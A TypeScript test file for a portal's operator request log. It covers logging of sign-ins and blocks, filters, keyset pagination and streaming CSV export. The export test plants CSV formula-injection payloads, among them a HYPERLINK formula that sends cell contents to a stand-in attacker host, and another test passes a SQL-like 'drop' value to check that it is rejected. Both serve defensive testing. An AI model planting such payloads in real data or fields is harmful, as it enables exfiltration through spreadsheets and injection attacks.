// The request log: what each producer writes, the filters and keyset pages, and the CSV export.
import { request as httpRequest } from 'node:http';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { User } from '../../src/users/user.repository.js';
import { startPortalWorld, type PortalWorld } from '../harness/world.js';
import { WebClient } from '../harness/web-client.js';
import { createOperator, createUser, currentCode, PASSWORD, signInOperator, turnOnTwoFactor } from '../harness/users.js';

let subject: PortalWorld;
let desk: WebClient;
let operator: User;

beforeAll(async () => {
  subject = await startPortalWorld({ listen: true, env: { ARCHWAY_SIGNIN_IP_MAX_FAILURES: '3' } });
  const created = await createOperator(subject.app);
  operator = created.operator;
  desk = new WebClient(subject.app, { remoteAddress: '192.0.2.250' });
  await signInOperator(subject.app, desk, operator.email, created.secret);
});

afterAll(async () => {
  await subject.close();
});

const db = () => subject.app.ctx.database.db;

/** The log as the operator's CSV export gives it, parsed: one object per row. */
type CsvRow = Record<'time_utc' | 'customer' | 'ip' | 'kind' | 'event' | 'outcome' | 'details', string>;

async function exported(query: string): Promise<CsvRow[]> {
  const page = await desk.get(`/operator/log.csv${query}`);
  expect(page.status).toBe(200);
  expect(page.headers['content-type']).toBe('text/csv; charset=utf-8');
  return parseCsv(page.body);
}

function parseCsv(text: string): CsvRow[] {
  const lines = text.split('\r\n').filter((l) => l !== '');
  const cells = (line: string) => [...line.matchAll(/"((?:[^"]|"")*)"(?:,|$)/g)].map((m) => m[1]!.replace(/""/g, '"'));
  const [header, ...rows] = lines.map(cells);
  return rows.map((row) => Object.fromEntries(header!.map((name, i) => [name, row[i] ?? ''])) as CsvRow);
}

describe('what the producers write', () => {
  it('records the password step and the second step as what they are, wrong codes and the blocks they cause', async () => {
    const customer = await createUser(subject.app);
    const secret = await turnOnTwoFactor(subject.app, customer.id);
    const browser = new WebClient(subject.app, { remoteAddress: '203.0.113.41' });
    expect((await browser.signIn(customer.email, PASSWORD)).location).toBe('/sign-in/two-factor');
    await browser.get('/sign-in/two-factor');
    expect((await browser.post('/sign-in/two-factor', { code: '000000' })).status).toBe(401);
    expect((await browser.post('/sign-in/two-factor', { code: currentCode(subject.app, secret) })).location).toBe('/account');

    const rows = await exported(`?customer=${encodeURIComponent(customer.email.toUpperCase())}`);
    expect(rows.map((r) => [r.kind, r.event, r.outcome])).toEqual([
      ['two-factor', 'second-step', 'success'],
      ['two-factor', 'second-step', 'failure'],
      ['sign-in', 'password-code-due', 'success'],
    ]);
    expect(rows.every((r) => r.ip === '203.0.113.41' && r.customer === customer.email)).toBe(true);
    expect(JSON.parse(rows[2]!.details)).toEqual({ reason: 'password' });
    expect(JSON.parse(rows[1]!.details)).toEqual({ reason: 'wrong' });
    expect(JSON.parse(rows[0]!.details)).toEqual({ method: 'totp' });
  });

  it('records wrong passwords, the address block they start, and the refused attempts behind it', async () => {
    const customer = await createUser(subject.app);
    const browser = new WebClient(subject.app, { remoteAddress: '203.0.113.42' });
    for (let i = 0; i < 3; i++) expect((await browser.signIn(customer.email, 'not-the-password')).status).toBe(401);
    expect((await browser.signIn(customer.email, PASSWORD)).status).toBe(401);

    const rows = await exported('?ip=203.0.113.42');
    expect(rows.map((r) => [r.kind, r.event, r.outcome])).toEqual([
      ['sign-in', 'password', 'blocked'],
      ['block', 'started', 'blocked'],
      ['sign-in', 'password', 'failure'],
      ['sign-in', 'password', 'failure'],
      ['sign-in', 'password', 'failure'],
    ]);
    expect(JSON.parse(rows[0]!.details)).toEqual({ reason: 'ip_blocked' });
    expect(JSON.parse(rows[1]!.details)).toMatchObject({ scope: 'address 203.0.113.42/32', level: 1 });

    // The operator lifts it: the lift is in the log with who did it and from where.
    const blockId = JSON.parse(rows[1]!.details).block as string;
    await desk.get('/operator');
    expect((await desk.post(`/operator/blocks/${blockId}/unblock`, {})).status).toBe(303);
    const lifted = await exported('?kind=block&ip=192.0.2.250');
    expect(lifted[0]).toMatchObject({ event: 'lifted', outcome: 'info', ip: '192.0.2.250' });
    expect(JSON.parse(lifted[0]!.details)).toMatchObject({ actor: operator.id, blockId });
  });

  it('shows an unknown address only as a fingerprint, never as typed', async () => {
    const browser = new WebClient(subject.app, { remoteAddress: '203.0.113.43' });
    await browser.signIn('Hunter2-typed-as-email', 'whatever');
    const [row] = await exported('?ip=203.0.113.43');
    expect(row).toMatchObject({ kind: 'sign-in', outcome: 'failure', customer: '' });
    expect(row!.details).not.toContain('Hunter2');
    expect(JSON.parse(row!.details).address).toMatch(/^unknown address #[0-9a-f]{8}$/);
  });
});

describe('filters and pages', () => {
  let alice: User;
  let bob: User;
  const base = Date.UTC(2024, 0, 10, 12, 0, 0);
  /** Seeded rows by id, in the order the log shows them (newest first, id breaking ties). */
  const seeded: { i: number; id: string; user: string; ip: string; kind: string; outcome: string; at: number }[] = [];

  beforeAll(async () => {
    alice = await createUser(subject.app);
    bob = await createUser(subject.app);
    // 130 rows in 2024 (before anything the other tests write), many sharing one timestamp.
    for (let i = 0; i < 130; i++) {
      const user = i % 3 === 0 ? bob : alice;
      const at = base + Math.floor(i / 10) * 60_000; // ten rows per minute: equal times across page borders
      const ip = i % 2 === 0 ? `198.51.100.${i % 50}` : `2001:db8::${i.toString(16)}`;
      const kind = i % 4 === 0 ? 'download' : 'sign-in';
      const outcome = i % 5 === 0 ? 'failure' : 'success';
      const row = await db()
        .insertInto('request_log')
        .values({ at: new Date(at), user_id: user.id, ip, kind, event: 'seeded', outcome, detail: JSON.stringify({ i }) })
        .returning('id')
        .executeTakeFirstOrThrow();
      seeded.push({ i, id: String(row.id), user: user.id, ip, kind, outcome, at });
    }
    seeded.sort((a, b) => b.at - a.at || Number(b.id) - Number(a.id));
  });

  /** Every page of the HTML view, following "Older entries": the details column of each row. */
  async function allPages(query: string): Promise<number[]> {
    const shown: number[] = [];
    let url: string | null = `/operator/log${query}`;
    for (let pages = 0; url !== null; pages++) {
      expect(pages).toBeLessThan(10);
      const page = await desk.get(url);
      expect(page.status).toBe(200);
      for (const m of page.body.matchAll(/<td>i: (\d+)<\/td>/g)) shown.push(Number(m[1]));
      url = /<a href="([^"]+)" rel="next">/.exec(page.body)?.[1]?.replace(/&amp;/g, '&') ?? null;
    }
    return shown;
  }

  const expected = (keep: (r: (typeof seeded)[number]) => boolean) => seeded.filter(keep).map((r) => r.i);

  it('pages through every row once, in order, across borders between equal times', async () => {
    const range = '?from=2024-01-10&to=2024-01-10';
    expect(await allPages(range)).toEqual(expected(() => true));
  });

  it('combines customer, kind, outcome and time filters', async () => {
    const query = `?customer=${alice.id}&kind=sign-in&outcome=success&from=2024-01-10T12:03&to=2024-01-10T12:10`;
    const want = expected(
      (r) =>
        r.user === alice.id && r.kind === 'sign-in' && r.outcome === 'success' && r.at >= base + 3 * 60_000 && r.at < base + 11 * 60_000,
    );
    expect(want.length).toBeGreaterThan(0);
    expect(await allPages(query)).toEqual(want);
  });

  it('matches a CIDR range and a single address, IPv4 and IPv6', async () => {
    const inRange = (ip: string) => ip.startsWith('198.51.100.') && Number(ip.split('.')[3]) < 16;
    expect(await allPages('?ip=198.51.100.0/28&from=2024-01-10&to=2024-01-10')).toEqual(expected((r) => inRange(r.ip)));
    expect(await allPages('?ip=2001:db8::/32&from=2024-01-10&to=2024-01-10')).toEqual(expected((r) => r.ip.includes(':')));
    expect(await allPages(`?ip=2001:db8::7f&from=2024-01-10&to=2024-01-10`)).toEqual(expected((r) => r.ip === '2001:db8::7f'));
  });

  it('says so when nothing matches, or when the customer names no account', async () => {
    const none = await desk.get('/operator/log?from=2024-01-09&to=2024-01-09');
    expect(none.status).toBe(200);
    expect(none.body).toContain('Nothing in the log matches this filter.');
    const nobody = await desk.get('/operator/log?customer=nobody%40example.net');
    expect(nobody.body).toContain('No account has that email address or id.');
    expect(await exported('?customer=nobody%40example.net')).toEqual([]);
  });

  it('refuses malformed filters with a sentence for each, and keeps what was typed', async () => {
    const bad = await desk.get('/operator/log?ip=300.1.1.1&kind=everything&from=2024-02-30&to=yesterday&before=1%3B+drop');
    expect(bad.status).toBe(400);
    expect(bad.body).toContain('Give an IP address');
    expect(bad.body).toContain('Choose a kind from the list.');
    expect(bad.body).toContain('Give a date (2026-11-28)');
    expect(bad.body).toContain('That page link is not valid.');
    expect(bad.body).toContain('value="300.1.1.1"');
    expect((await desk.get('/operator/log?ip=10.0.0.0/33')).status).toBe(400);
    expect((await desk.get('/operator/log?from=2024-01-10&to=2024-01-09')).body).toContain('The end of the range is before its start.');
    expect((await desk.get('/operator/log?customer=a&customer=b')).body).toContain('Give this filter once.');
    expect((await desk.get(`/operator/log?customer=${'x'.repeat(300)}`)).status).toBe(400);
    expect((await desk.get('/operator/log.csv?ip=nonsense')).status).toBe(400);
    const gone = await desk.get('/operator/log?before=999999999999');
    expect(gone.status).toBe(400);
    expect(gone.body).toContain('That page of the log is no longer there');
  });
});

describe('the CSV export', () => {
  it('neutralises cells a spreadsheet would run as formulas', async () => {
    const planted = await createUser(subject.app, { email: '=HYPERLINK("http://evil.example/"&A1,"click")@example.net' });
    for (const reason of ['=HYPERLINK("http://evil.example")', '+1+2', '-3', '@SUM(A1)', '\tx', '\rx']) {
      await db()
        .insertInto('request_log')
        .values({ at: new Date(), user_id: planted.id, kind: 'account', event: reason, outcome: 'info', detail: '{}' })
        .execute();
    }
    const page = await desk.get(`/operator/log.csv?customer=${planted.id}`);
    const rows = parseCsv(page.body);
    expect(rows).toHaveLength(6);
    for (const row of rows) {
      expect(row.customer).toBe(`'${planted.email}`);
      expect(row.event.startsWith("'")).toBe(true);
    }
    // Nothing in the file starts a cell with a formula character.
    expect(page.body).not.toMatch(/(^|,)"[=+\-@\t\r]/m);
  });

  it('streams 100,000 rows with the server memory flat', async () => {
    const owner = await createUser(subject.app);
    // ~1 KiB of details per row: the whole export is over 100 MB, far more than the growth allowed below.
    // In batches: one 100 MB insert can outlast the portal's 10 s statement timeout on a slow machine.
    for (let first = 1; first <= 100_000; first += 10_000) {
      await sql`
        insert into request_log (at, user_id, ip, kind, event, outcome, detail)
        select timestamptz '2023-06-01' + g * interval '1 second', ${owner.id}::uuid, '198.18.0.1', 'download', 'completed', 'success',
               jsonb_build_object('n', g, 'pad', repeat('x', 1000))
        from generate_series(${first}::int, ${first + 9_999}::int) g`.execute(db());
    }
    // What stays reachable, not what awaits collection: measured right after a full collection.
    setFlagsFromString('--expose-gc');
    const collect = runInNewContext('gc') as () => void;
    const live = () => {
      collect();
      return process.memoryUsage().heapUsed;
    };
    const before = live();
    let peak = before;
    let bytes = 0;
    let nextSample = 0;
    let lines = 0;
    await new Promise<void>((resolve, reject) => {
      const url = new URL(`/operator/log.csv?customer=${owner.id}`, subject.origin);
      const req = httpRequest(url, { headers: { cookie: desk.cookieHeader() } }, (res) => {
        expect(res.statusCode).toBe(200);
        res.on('data', (chunk: Buffer) => {
          bytes += chunk.length;
          for (const b of chunk) if (b === 10) lines++;
          if (bytes >= nextSample) {
            peak = Math.max(peak, live());
            nextSample += 5_000_000;
          }
        });
        res.on('end', resolve);
        res.on('error', reject);
      });
      req.on('error', reject);
      req.end();
    });
    expect(lines).toBe(100_001);
    expect(bytes).toBeGreaterThan(100_000_000);
    // Buffering the export would keep over 100 MB reachable; a stream keeps a batch or two.
    expect(peak - before).toBeLessThan(30_000_000);
  }, 180_000);
});
